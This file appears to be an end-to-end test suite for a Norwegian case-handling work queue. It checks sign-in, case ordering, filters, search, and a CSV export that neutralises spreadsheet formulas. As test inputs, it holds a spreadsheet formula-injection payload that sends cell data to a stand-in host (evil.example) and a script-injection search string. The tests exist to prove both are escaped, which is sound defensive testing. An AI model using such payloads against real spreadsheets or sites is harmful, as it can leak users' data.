"""Bits' work queue over HTTP on the dev host: sign-in required, every open case with its company, status and whose
move in words, breaches then overdue cases first, filters and search in the query (bookmarkable), and a CSV of the
same list that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import httpx

from functions.composition import build_services
from functions.core.model import Channel
from functions.core.rendering import OSLO
from functions.core.settings import Settings
from functions.incidents.security import SECURITY_BREACH_FORM
from functions.questions.workflow import ask_question
from tests.conftest import DevHostProcess, FakeClock
from tests.e2e.helpers import QUESTION, REPORT, as_contact, sign_in
from tests.integration.test_decision_race import PROVEN, question

BREACH: dict[str, Any] = dict(SECURITY_BREACH_FORM.example or {})
PAGE = {"Accept": "text/html,application/xhtml+xml"}
# A title a spreadsheet would run: opened from the CSV as it was typed, it would link (or worse) anywhere.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klikk her")'


@dataclass(frozen=True)
class Seeded:
    """Cases made for these tests, told apart from every other test's by `marker` (a word in each title)."""

    marker: str
    text_word: str  # a word only in the question's text (not its title)
    question: str  # a registered contact's question (new, production), titled with FORMULA
    report: str  # an error report (new, test environment)
    stranger: str  # a JSON question from an unproven address for Test Pensjon AS (awaiting confirmation)
    overdue: str  # a question asked in October: long past its targets
    breach: str  # a security breach report (for Demo Forsikring ASA), the marker in its text


def old_question(host: DevHostProcess, subject: str) -> str:
    """A question asked in October, written straight into the dev host's storage: long overdue today."""

    async def write() -> str:
        settings = Settings(
            storage_connection_string=host.env["SSU_STORAGE_CONNECTION_STRING"],
            table_prefix=host.env["SSU_TABLE_PREFIX"],
        )
        services = build_services(settings)
        clock = FakeClock()
        clock.at = datetime(2026, 10, 1, 9, 0, tzinfo=OSLO)
        services.clock = clock
        try:
            return (await ask_question(services, question(subject), Channel.FORM, proof=PROVEN)).reference
        finally:
            await services.close()

    # Playwright's sync API runs an event loop in the browser tests' thread: write from another one.
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, write()).result()


_SEEDED: dict[str, Seeded] = {}


def seeded(host: DevHostProcess) -> Seeded:
    """The cases, made once per dev host: the browser tests look at the same ones."""
    if host.url not in _SEEDED:
        marker, text_word = f"kø{uuid.uuid4().hex[:8]}", f"ord{uuid.uuid4().hex[:8]}"
        asked = as_contact(
            host,
            "questions",
            {**QUESTION, "subject": f"{FORMULA} {marker}", "question": f"Gjelder {text_word} for IFU?"},
        )
        report = as_contact(
            host, "incidents", {**REPORT, "title": f"Tidsavbrudd i test {marker}", "environment": "test"}
        )
        stranger = httpx.post(
            f"{host.url}/api/questions",
            json={
                **QUESTION,
                "organisation_number": "310000027",
                "email": f"ukjent-{uuid.uuid4().hex[:8]}@test-pensjon.example",
                "subject": f"Spørsmål om AAP {marker}",
            },
        )
        assert stranger.status_code == 201 and stranger.json()["status"] == "awaiting_confirmation", stranger.text
        breach = httpx.post(
            f"{host.url}/api/incidents/security",
            json={**BREACH, "email": f"ukjent-{uuid.uuid4().hex[:8]}@annen.example", "description": f"Lekket {marker}"},
        )
        assert breach.status_code == 201, breach.text
        _SEEDED[host.url] = Seeded(
            marker,
            text_word,
            asked,
            report,
            stranger.json()["reference"],
            old_question(host, f"Gammelt spørsmål {marker}"),
            breach.json()["reference"],
        )
    return _SEEDED[host.url]


def queue(host: DevHostProcess, **params: str) -> httpx.Response:
    response = httpx.get(f"{host.url}/api/bits", params=params, headers={**sign_in(host), **PAGE})
    assert response.status_code == 200, response.text
    return response


def references(page: httpx.Response) -> list[str]:
    """The cases the page lists, in its order."""
    return re.findall(r'<tr[^>]* data-reference="([^"]+)"', page.text)


def row_of(page: httpx.Response, reference: str) -> str:
    found = re.search(rf'<tr[^>]* data-reference="{re.escape(reference)}".*?</tr>', page.text, re.S)
    assert found, f"{reference} not listed"
    return found.group(0)


def test_without_signing_in_the_queue_is_refused_and_the_old_overview_leads_to_it(devhost: DevHostProcess) -> None:
    for params in ({}, {"format": "csv"}, {"q": "Demo"}):
        refused = httpx.get(f"{devhost.url}/api/bits", params=params, headers={"Accept": "application/json"})
        assert refused.status_code == 401 and refused.json()["error"] == "unauthenticated"
        assert "data-reference" not in refused.text
    browser = httpx.get(f"{devhost.url}/api/bits?process=D", headers=PAGE)
    assert browser.status_code == 302
    assert browser.headers["location"] == "/.auth/login/aad?post_login_redirect_uri=/api/bits%3Fprocess%3DD"
    # The old overview is a redirect to the queue (keeping the language), and shows nothing itself.
    old = httpx.get(f"{devhost.url}/api/overview?lang=en", headers=PAGE)
    assert old.status_code == 302 and old.headers["location"] == "/api/bits?lang=en" and not old.text
    followed = httpx.get(f"{devhost.url}/api/overview", headers={**sign_in(devhost), **PAGE}, follow_redirects=True)
    assert followed.status_code == 200 and str(followed.url).endswith("/api/bits")


def test_every_open_case_is_listed_in_words_with_a_link_to_its_case_view(devhost: DevHostProcess) -> None:
    cases = seeded(devhost)
    page = queue(devhost, q=cases.marker)
    listed = references(page)
    # The breach, the overdue question, the two by their due times, and last the one whose clock has not started.
    assert listed[:2] == [cases.breach, cases.overdue] and listed[4:] == [cases.stranger]
    assert set(listed[2:4]) == {cases.question, cases.report}
    asked = row_of(page, cases.question)
    assert f'href="/api/bits/cases/{cases.question}"' in asked
    assert "spørsmål" in asked and "Demo Forsikring ASA" in asked and "310000019" in asked
    assert ">ny<" in asked and ">produksjon<" in asked and ">Bits<" in asked
    assert "&#34;" in asked or "&quot;" in asked, "the title is escaped"
    stranger = row_of(page, cases.stranger)
    assert "Test Pensjon AS" in stranger and "venter på bekreftet e-post" in stranger
    assert ">Forsikringsselskapet<" in stranger
    report = row_of(page, cases.report)
    assert "feilmelding" in report and ">test<" in report
    overdue = row_of(page, cases.overdue)
    assert 'data-overdue="true"' in overdue and "Forfalt" in overdue
    # Due in Oslo time: the October question's first-response target fell on 1 October, at 17:00 Oslo time or before.
    assert re.search(r"0[12]\.10\.2026 \d\d:\d\d", overdue), overdue
    english = queue(devhost, q=cases.marker, lang="en")
    assert f'href="/api/bits/cases/{cases.question}?lang=en"' in english.text
    assert ">new<" in row_of(english, cases.question) and ">The insurer<" in row_of(english, cases.stranger)
    assert "Overdue" in row_of(english, cases.overdue)


def test_security_breaches_come_first_then_overdue_cases_then_by_due(devhost: DevHostProcess) -> None:
    cases = seeded(devhost)
    page = queue(devhost)
    listed = references(page)
    rows = [row_of(page, reference) for reference in listed]
    breaches = [i for i, row in enumerate(rows) if 'data-breach="true"' in row]
    overdue = [i for i, row in enumerate(rows) if 'data-overdue="true"' in row and 'data-breach="true"' not in row]
    rest = [i for i in range(len(rows)) if i not in breaches and i not in overdue]
    assert breaches and max(breaches) < min(overdue) and max(overdue) < min(rest, default=len(rows))
    assert listed.index(cases.breach) in breaches and "Sikkerhetsbrudd" in row_of(page, cases.breach)
    assert listed.index(cases.overdue) in overdue
    assert listed.index(cases.breach) < listed.index(cases.overdue) < listed.index(cases.question)
    # Among the cases not overdue, the earlier due time comes first (cases without one after those with one).
    due = re.compile(r'<td data-label="Frist"><span class="nowrap">(\d\d)\.(\d\d)\.(\d{4}) (\d\d):(\d\d)</span></td>')
    dues = [due.search(rows[i]) for i in rest]
    keys = [(m[3], m[2], m[1], m[4], m[5]) if m else ("9999",) for m in dues]
    assert keys == sorted(keys)


def test_filters_narrow_the_list_and_can_be_bookmarked(devhost: DevHostProcess) -> None:
    cases = seeded(devhost)
    marker = cases.marker
    assert references(queue(devhost, q=marker, process="D")) == [cases.overdue, cases.question, cases.stranger]
    assert references(queue(devhost, q=marker, process="C")) == [cases.breach, cases.report]
    assert references(queue(devhost, q=marker, company="310000027")) == [cases.stranger]
    assert references(queue(devhost, q=marker, company="310 000 019", environment="test")) == [
        cases.overdue,
        cases.report,
    ]
    assert references(queue(devhost, q=marker, status="awaiting_confirmation")) == [cases.stranger]
    assert references(queue(devhost, q=marker, move="insurer")) == [cases.stranger]
    assert references(queue(devhost, q=marker, overdue="1")) == [cases.overdue]
    assert references(queue(devhost, q=marker, environment="production", move="bits")) == [cases.question]
    # The form shows the filters of the page, so that what is bookmarked is what is seen.
    page = queue(devhost, q=marker, process="D", move="insurer", overdue="1", environment="test")
    assert '<option value="D" selected>' in page.text and '<option value="insurer" selected>' in page.text
    assert '<option value="test" selected>' in page.text and 'name="overdue" value="1" checked' in page.text
    assert f'value="{marker}"' in page.text
    assert "<script" not in page.text, "no JavaScript"
    # A mistyped bookmark shows more, never fails or shows nothing for a bad value.
    loose = queue(devhost, q=marker, process="X", company="12", status="<b>", move="nobody", environment="moon")
    assert len(references(loose)) == 5 and "<b>" not in loose.text


def test_search_finds_by_reference_company_title_and_the_text_it_opened_with(devhost: DevHostProcess) -> None:
    cases = seeded(devhost)
    assert references(queue(devhost, q=cases.question.lower())) == [cases.question]
    assert references(queue(devhost, q=f"TEST PENSJON {cases.marker}")) == [cases.stranger]
    assert set(references(queue(devhost, q=f"demo   forsikring {cases.marker}"))) == {
        cases.breach,
        cases.question,
        cases.report,
        cases.overdue,
    }
    assert references(queue(devhost, q=f"lekket {cases.marker}")) == [cases.breach], "the text it opened with"
    assert references(queue(devhost, q=f"tidsavbrudd {cases.marker}")) == [cases.report]
    assert references(queue(devhost, q=cases.text_word.upper())) == [cases.question], "the text of its first event"
    assert references(queue(devhost, q=f"{cases.marker} finnesikke")) == []
    nothing = queue(devhost, q=f'"><script>alert(1)</script> {cases.marker}')
    assert "<script>" not in nothing.text and "&lt;script&gt;" in nothing.text, "the search is shown as text"
    assert "Ingen åpne saker passer" in nothing.text


def test_the_csv_is_the_list_shown_and_no_cell_runs_as_a_formula(devhost: DevHostProcess) -> None:
    cases = seeded(devhost)
    page = queue(devhost, q=cases.marker)
    link = re.search(r'href="(/api/bits\?[^"]*format=csv[^"]*)"', page.text)
    assert link, "the page links to its own list as CSV"
    download = httpx.get(f"{devhost.url}{link.group(1).replace('&amp;', '&')}", headers=sign_in(devhost))
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["cache-control"] == "no-store"
    text = download.content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header[:4] == ["Saksnummer", "Prosess", "Sikkerhetsbrudd", "Virksomhet"]
    assert [row[0] for row in rows] == references(page), "the same cases, in the same order"
    by_reference = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    asked = by_reference[cases.question]
    assert asked["Tittel"] == f"'{FORMULA} {cases.marker}", "a formula is text in a spreadsheet"
    assert asked["Virksomhet"] == "Demo Forsikring ASA" and asked["Status"] == "ny"
    assert asked["Hvem sin tur"] == "Bits" and asked["Miljø"] == "produksjon"
    assert by_reference[cases.overdue]["Forfalt"] == "forfalt"
    assert re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", by_reference[cases.overdue]["Frist (Oslo-tid)"])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    english = httpx.get(
        f"{devhost.url}/api/bits", params={"q": cases.marker, "format": "csv", "lang": "en"}, headers=sign_in(devhost)
    )
    assert english.content.decode("utf-8-sig").startswith("Reference,Process,Security breach,Company")
    assert 'filename="work-queue-' in english.headers["content-disposition"]
